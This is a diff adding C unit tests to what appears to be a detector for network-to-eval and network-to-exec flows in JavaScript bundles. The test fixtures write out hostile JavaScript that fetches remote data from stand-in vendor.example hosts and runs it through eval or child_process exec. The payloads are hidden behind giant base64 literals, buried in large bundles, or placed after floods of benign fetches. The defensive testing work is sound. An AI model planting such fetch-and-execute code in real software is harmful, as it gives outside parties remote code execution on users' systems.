@@ -169,6 +169,78 @@ static void a_bundle_that_is_all_new_is_read(void **state)
 	buf_release(&b);
 }
 
+/* A program of another kind in a literal of a megabyte does not hide what stands beside it. */
+static void giant_literals_are_passed_over(void **state)
+{
+	struct buf b;
+	struct js_case *c;
+	const struct fact *f;
+
+	(void)state;
+	buf_init(&b, 8 << 20);
+	buf_add_z(&b, "(function () {\n\"use strict\";\nvar wasm = \"data:application/octet-stream;base64,AGFzbQEAAAAB");
+	for (int i = 0; i < 20000; i++)
+		buf_printf(&b, "%04dQmZpLw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAAlQ1Ab%03dz", i % 10000, i % 1000);
+	buf_add_z(&b, "\";\nvar h = require('https');\nh.get('https://beside.vendor.example/x', function (r) { r.on('data', function (d) { eval(String(d)); }); });\n})();\n");
+	c = js_case_steps(LANGUAGE_JAVASCRIPT, STR_NONE, buf_str(&b), 400000000);
+	f = js_case_find(c, FACT_FLOW, "net>code", "beside.vendor.example");
+	if (!f)
+		js_case_print(c);
+	assert_int_equal(c->status, STATUS_OK);
+	assert_non_null(f);
+	assert_true(str_has(f->excerpt, "eval(String(d))"));
+	assert_int_equal(f->line, 5);
+	js_case_free(c);
+	buf_release(&b);
+}
+
+/* What a bundle's loader hands out is known although only the changed module is parsed. */
+static void modules_of_a_large_bundle_are_known(void **state)
+{
+	static const char head[] = "(()=>{var e={7:e=>{\"use strict\";e.exports=require(\"https\")},8:e=>{e.exports=require(\"child_process\")},";
+	static const char tail[] = "},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n(0)})();";
+	struct buf old, new_;
+	struct js_case *c;
+
+	(void)state;
+	buf_init(&old, 8 << 20);
+	buf_init(&new_, 8 << 20);
+	buf_add_z(&old, head);
+	buf_add_z(&new_, head);
+	for (unsigned i = 100; old.len < 700000; i++) {
+		buf_printf(&old, "%u:(e,t,n)=>{var r=n(%u);t.a=function(e){return r.b(e,%u)}},\n", i, i + 1, i);
+		buf_printf(&new_, "%u:(e,t,n)=>{var r=n(%u);t.a=function(e){return r.b(e,%u)}},\n", i, i + 1, i);
+		if (i == 3000)
+			buf_add_z(&new_, "99999:(e,t,n)=>{var r=n(7),o=n(8);r.get(\"https://module.vendor.example/c\",(e=>{e.on(\"data\",(e=>o.exec(e.toString())))}))},\n");
+	}
+	buf_add_z(&old, tail);
+	buf_add_z(&new_, tail);
+	c = js_case_steps(LANGUAGE_JAVASCRIPT, buf_str(&old), buf_str(&new_), 400000000);
+	if (!js_case_find(c, FACT_FLOW, "net>exec", "module.vendor.example"))
+		js_case_print(c);
+	assert_non_null(js_case_find(c, FACT_FLOW, "net>exec", "module.vendor.example"));
+	assert_true(c->budget.steps < 4000000);
+	js_case_free(c);
+	buf_release(&old);
+	buf_release(&new_);
+}
+
+static void a_flood_does_not_bury_a_flow(void **state)
+{
+	struct buf b;
+	struct js_case *c;
+
+	(void)state;
+	buf_init(&b, 8 << 20);
+	for (unsigned i = 0; i < 5000; i++)
+		buf_printf(&b, "fetch('https://h%u.vendor.example/%u');\n", i, i);
+	buf_add_z(&b, "fetch('https://last.vendor.example/').then(r => r.text()).then(eval);\n");
+	c = js_case_steps(LANGUAGE_JAVASCRIPT, STR_NONE, buf_str(&b), 400000000);
+	assert_non_null(js_case_find(c, FACT_FLOW, "net>code", "last.vendor.example"));
+	js_case_free(c);
+	buf_release(&b);
+}
+
 /* --- cost: counted in steps, so that it repeats --- */
 
 static uint64_t steps_of(const char *unit, size_t times, const char *before, const char *behind)
@@ -285,6 +357,9 @@ int main(void)
 		cmocka_unit_test(nonsense_is_said),
 		cmocka_unit_test(large_members_are_read_in_part),
 		cmocka_unit_test(a_bundle_that_is_all_new_is_read),
+		cmocka_unit_test(a_flood_does_not_bury_a_flow),
+		cmocka_unit_test(giant_literals_are_passed_over),
+		cmocka_unit_test(modules_of_a_large_bundle_are_known),
 		cmocka_unit_test(twice_the_text_costs_twice),
 		cmocka_unit_test(slow_texts_are_stopped),
 		cmocka_unit_test(too_deep_is_said),
